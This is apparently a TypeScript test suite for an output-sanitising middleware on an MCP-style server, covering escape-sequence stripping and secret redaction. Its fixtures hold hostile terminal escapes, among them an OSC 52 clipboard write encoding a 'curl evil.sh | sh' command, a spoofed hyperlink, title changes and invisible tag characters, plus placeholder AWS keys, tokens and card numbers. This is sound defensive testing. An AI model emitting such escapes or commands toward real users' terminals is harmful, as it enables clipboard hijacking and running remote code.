// Clean outputs in process (issue 16; threats E1, E3): what tools/call, prompts/get and resources/read results carry
// after the sanitise middleware, on the memory transport and both eras; the options and their warnings.

import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import {
  capturingLogger,
  connect,
  initializeLegacy,
  modern,
  testServer,
  type WireMessage,
} from '../../../test/support/harness.js';
import type { RpcError } from '../../jsonrpc/index.js';
import { type McpServer, type Outcome, type RequestView } from '../../server/index.js';
import { redactSecrets } from '../redact/index.js';
import { sanitise, type SanitiseOptions, type Sanitiser } from './index.js';

const ESC = '\x1b';
/** Every escape and character kind of threats.md E1, each followed by a letter that must survive. */
const HOSTILE = [
  `${ESC}[2J`, // CSI: clear screen
  `${ESC}[31mred${ESC}[0m`, // CSI: colours
  `${ESC}]0;PWNED\x07`, // OSC: window title, BEL-terminated
  `${ESC}]8;;https://evil.example/${ESC}\\click${ESC}]8;;${ESC}\\`, // OSC 8 hyperlink, ST-terminated
  `${ESC}]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07`, // OSC 52 clipboard write
  `${ESC}P1$r0m${ESC}\\`, // DCS
  `${ESC}_app${ESC}\\`, // APC
  `${ESC}c`, // reset (two-character escape)
  '\u009b2J', // 8-bit CSI
  '\u009d0;8-bit title\x07', // 8-bit OSC
  '\u0080\u0085\u008d', // other C1 controls
  '\u202a\u202b\u202c\u202d\u202e', // bidi embeddings and overrides
  '\u2066\u2067\u2068\u2069', // bidi isolates
  '\u200b\u200c\u200d\u200e\u200f\u2060\ufeff', // zero-width characters, marks, word joiner, BOM
  '\x00\x07\x08\x0b\x0c\x7f', // C0 controls and DEL
  'over\rwrite', // a lone carriage return
  '\u{E0041}\u{E0042}', // invisible tag characters (hidden instructions)
].map((part, index) => `${part}${String.fromCharCode(65 + index)}`);
const HOSTILE_TEXT = HOSTILE.join('');
const HOSTILE_CLEAN = 'AredBCclickDEFGHIJKLMNOoverwritePQ';

/** Printable text that must pass untouched: CJK, RTL script, combining marks, emoji with joiners, modifiers, flags. */
const PRINTABLE = '東京 中文 한국어 العربية עברית e\u0301 👩‍💻 👨‍👩‍👧 🏳️‍🌈 👍🏽 🇯🇵 🏴󠁧󠁢󠁳󠁣󠁴󠁿 tab\there\r\nCRLF line\nnext';

const ALL_UNSAFE = new RegExp(
  String.raw`[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069\u200b-\u200c\u200e\u200f\u2060\ufeff]|\u{E0041}`,
  'u',
);

interface Setup {
  server: McpServer;
  sanitiser: Sanitiser;
  call(name: string, args?: Record<string, unknown>): Promise<WireMessage>;
  request(method: string, params: Record<string, unknown>): Promise<WireMessage>;
  /** What an outer middleware (the audit's place) saw for each request: the cleaned outcome and the original. */
  seen: { outcome: Outcome; original: Outcome | RpcError | undefined }[];
}

async function setup(options: SanitiseOptions, register: (server: McpServer) => void): Promise<Setup> {
  const server = testServer();
  const sanitiser = sanitise({ logger: capturingLogger(), ...options });
  const seen: Setup['seen'] = [];
  // Where the audit sits: outside the sanitiser, reading the original through originalOf.
  server.use(async (request: RequestView, next) => {
    const outcome = await next();
    seen.push({ outcome, original: sanitiser.originalOf(request) });
    return outcome;
  });
  server.use(sanitiser.middleware);
  register(server);
  const client = await connect(server);
  return {
    server,
    sanitiser,
    seen,
    call: (name, args = {}) => client.request('tools/call', modern({ name, arguments: args })),
    request: (method, params) => client.request(method, modern(params)),
  };
}

const textsOf = (response: WireMessage): string[] =>
  ((response.result?.content ?? []) as { type: string; text?: string }[]).map(
    (block) => block.text ?? `<${block.type}>`,
  );

describe('sanitise: text (E1)', () => {
  it('E1 every escape and invisible character kind is removed from text content; the letters between survive', async () => {
    const { call } = await setup({}, (server) =>
      server.tool({ name: 'hostile', handler: () => HOSTILE_TEXT }),
    );
    const response = await call('hostile');
    assert.deepEqual(textsOf(response), [HOSTILE_CLEAN]);
  });

  it('E1 printable Unicode (CJK, RTL, combining marks, emoji sequences with joiners, flags), tab, newline and CRLF are unchanged', async () => {
    const { call } = await setup({}, (server) =>
      server.tool({ name: 'printable', handler: () => PRINTABLE }),
    );
    assert.deepEqual(textsOf(await call('printable')), [PRINTABLE]);
  });

  it('E1 a zero-width joiner outside an emoji sequence goes; U+2028/U+2029 become newlines', async () => {
    const { call } = await setup({}, (server) =>
      server.tool({ name: 'joiner', handler: () => 'a\u200db 👩\u200d x\u2028y\u2029z' }),
    );
    assert.deepEqual(textsOf(await call('joiner')), ['ab 👩 x\ny\nz']);
  });

  it('E1 strings inside structuredContent are cleaned too, and the text block that mirrors it says the same', async () => {
    const { call } = await setup({}, (server) =>
      server.tool({
        name: 'structured',
        outputSchema: {
          type: 'object',
          properties: { title: { type: 'string' }, tags: { type: 'array', items: { type: 'string' } } },
          required: ['title'],
        },
        handler: () => ({ title: `${ESC}]0;PWNED\x07report\u202e`, tags: ['ok', `a${ESC}[2Jb`] }),
      }),
    );
    const response = await call('structured');
    assert.deepEqual(response.result?.structuredContent, { title: 'report', tags: ['ok', 'ab'] });
    assert.deepEqual(textsOf(response), ['{"title":"report","tags":["ok","ab"]}']);
  });

  it('E1 the name, title and description of a resource link are cleaned; its URI is left alone', async () => {
    const { call } = await setup({}, (server) =>
      server.tool({
        name: 'link',
        handler: () => ({
          content: [
            {
              type: 'resource_link',
              uri: 'file:///docs/readme.md',
              name: `readme${ESC}]0;PWNED\x07`,
              title: 'Read\u202eme',
              description: 'plain',
            },
          ],
        }),
      }),
    );
    const response = await call('link');
    assert.deepEqual(response.result?.content, [
      {
        type: 'resource_link',
        uri: 'file:///docs/readme.md',
        name: 'readme',
        title: 'Readme',
        description: 'plain',
      },
    ]);
  });

  it('E1 prompts/get messages and resources/read text are cleaned', async () => {
    const { request } = await setup({}, (server) => {
      server.prompt({ name: 'p', description: 'd', get: () => `hello${ESC}[2J\u202eworld` });
      server.resource({
        uri: 'test://r',
        name: 'r',
        mimeType: 'text/plain',
        read: () => `file\u200b${ESC}]0;x\x07text`,
      });
    });
    const prompt = await request('prompts/get', { name: 'p' });
    const messages = prompt.result?.messages as { content: { text: string } }[];
    assert.equal(messages[0]?.content.text, 'helloworld');
    const resource = await request('resources/read', { uri: 'test://r' });
    const contents = resource.result?.contents as { text: string }[];
    assert.equal(contents[0]?.text, 'filetext');
  });

  it('E1 on the legacy era too (2025-11-25 session on the same server)', async () => {
    const server = testServer();
    server.use(sanitise({ logger: capturingLogger() }).middleware);
    server.tool({ name: 'hostile', handler: () => HOSTILE_TEXT });
    const client = await connect(server);
    await initializeLegacy(client, '2025-11-25');
    const response = await client.request('tools/call', { name: 'hostile', arguments: {} });
    assert.deepEqual(textsOf(response), [HOSTILE_CLEAN]);
    // The JSON on the wire is valid and holds no raw control or escape character.
    const wire = client.traffic
      .filter((entry) => entry.direction === 'server->client')
      .map((entry) => entry.text);
    for (const line of wire) {
      assert.doesNotThrow(() => JSON.parse(line));
      assert.doesNotMatch(line, ALL_UNSAFE);
      assert.doesNotMatch(line, /\\u001b|\\u0007/);
    }
  });

  it('E1 text: false leaves text as it is, and says so once at construction', async () => {
    const logger = capturingLogger();
    const { call } = await setup({ text: false, logger }, (server) =>
      server.tool({ name: 'hostile', handler: () => HOSTILE_TEXT }),
    );
    assert.deepEqual(textsOf(await call('hostile')), [HOSTILE_TEXT]);
    assert.deepEqual(
      logger.lines.map((line) => `${line.level}: ${line.message}`),
      [
        'warn: output sanitising is partly off: text cleaning (escape sequences and invisible characters reach clients: E1)',
      ],
    );
  });

  it('a clean result passes as the very same object (nothing copied), and the original is not kept', async () => {
    const result = { content: [{ type: 'text' as const, text: 'plain' }] };
    const { call, seen } = await setup({}, (server) => server.tool({ name: 'plain', handler: () => result }));
    await call('plain');
    assert.equal(seen[0]?.outcome, result);
    assert.equal(seen[0]?.original, undefined);
  });
});

describe('sanitise: secrets (E3)', () => {
  const AWS = 'AKIAIOSFODNN7EXAMPLE';
  const JWT = 'eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0In0.c2lnbmF0dXJlLXBhcnQ';
  const KEY = '-----BEGIN PRIVATE KEY-----\nMIIEvQIBADANBgkqhkiG9w0BAQEFAASC\n-----END PRIVATE KEY-----';
  const CARD = '4111 1111 1111 1111';
  const leaky = `aws ${AWS} jwt ${JWT} key ${KEY} card ${CARD}`;

  it('E3 with redact on, an AWS key, a JWT, a private key and a card number are redacted in text and structuredContent', async () => {
    const { call } = await setup({ redact: true }, (server) => {
      server.tool({ name: 'leaky', handler: () => leaky });
      server.tool({
        name: 'leaky-structured',
        handler: () => ({ content: [], structuredContent: { note: leaky, password: 'x1' } }),
      });
    });
    const expected =
      'aws [redacted:aws-access-key-id] jwt [redacted:jwt] key [redacted:private-key] card [redacted:card-number]';
    assert.deepEqual(textsOf(await call('leaky')), [expected]);
    const structured = await call('leaky-structured');
    assert.deepEqual(structured.result?.structuredContent, {
      note: expected,
      password: '[redacted:secret-field]',
    });
  });

  it('E3 with redact off (the default), results carry them as they are', async () => {
    const { call } = await setup({}, (server) => server.tool({ name: 'leaky', handler: () => leaky }));
    assert.deepEqual(textsOf(await call('leaky')), [leaky]);
  });

  it('E3 a zero-width character cannot hide a key from redaction (characters are cleaned first)', async () => {
    const { call } = await setup({ redact: true }, (server) =>
      server.tool({ name: 'split', handler: () => `AKIA\u200bIOSFODNN7\u2060EXAMPLE` }),
    );
    assert.deepEqual(textsOf(await call('split')), ['[redacted:aws-access-key-id]']);
  });

  it('E3 a redactor of your own replaces the default', async () => {
    const { call } = await setup(
      { redact: (value) => (value === 'secret sauce' ? { value: '[gone]', count: 1 } : { value, count: 0 }) },
      (server) => server.tool({ name: 'own', handler: () => 'secret sauce' }),
    );
    assert.deepEqual(textsOf(await call('own')), ['[gone]']);
  });

  it('E3 the audit side: with redact off, what leaves is untouched, and redactSecrets cleans the record', async () => {
    const { call, seen } = await setup({}, (server) =>
      server.tool({ name: 'leaky', handler: () => `${ESC}[1m${AWS}` }),
    );
    await call('leaky');
    const entry = seen[0];
    // The client got the text cleaned of escapes; the audit redacts what it stores, whatever the client got.
    assert.deepEqual(redactSecrets(entry?.outcome).value, {
      content: [{ type: 'text', text: '[redacted:aws-access-key-id]' }],
    });
    assert.deepEqual(redactSecrets(entry?.original).value, {
      content: [{ type: 'text', text: `${ESC}[1m[redacted:aws-access-key-id]` }],
    });
  });
});

describe('sanitise: options', () => {
  const bad: [SanitiseOptions, string][] = [
    [{ colour: true } as SanitiseOptions, 'sanitise(): unknown option "colour"'],
    [
      { maxResultBytes: 10 },
      'sanitise(): maxResultBytes must be an integer of at least 1024 (bytes) or Infinity, got 10',
    ],
    [
      { maxBinaryBytes: 1.5e3 + 0.5 },
      'sanitise(): maxBinaryBytes must be an integer of at least 1024 (bytes) or Infinity, got 1500.5',
    ],
    [{ text: 'yes' } as unknown as SanitiseOptions, 'sanitise(): text must be true or false'],
    [
      { redact: 'on' } as unknown as SanitiseOptions,
      'sanitise(): redact must be true, false or a redactor function',
    ],
    [
      { onMasked: 1 } as unknown as SanitiseOptions,
      'sanitise(): onMasked must be a function (request, original) => void',
    ],
  ];
  for (const [options, message] of bad) {
    it(`refuses ${JSON.stringify(options)}: ${message}`, () => {
      assert.throws(() => sanitise(options), { name: 'TypeError', message });
    });
  }

  it('the defaults log nothing; size bounds off are named in the one warning', () => {
    const quiet = capturingLogger();
    sanitise({ logger: quiet });
    assert.equal(quiet.lines.length, 0);
    const loud = capturingLogger();
    sanitise({ logger: loud, maxResultBytes: Infinity, maxBinaryBytes: Infinity });
    assert.deepEqual(
      loud.lines.map((line) => line.message),
      [
        'output sanitising is partly off: the text size bound (results of any size: E4); the binary size bound (images and blobs of any size: E4)',
      ],
    );
  });
});
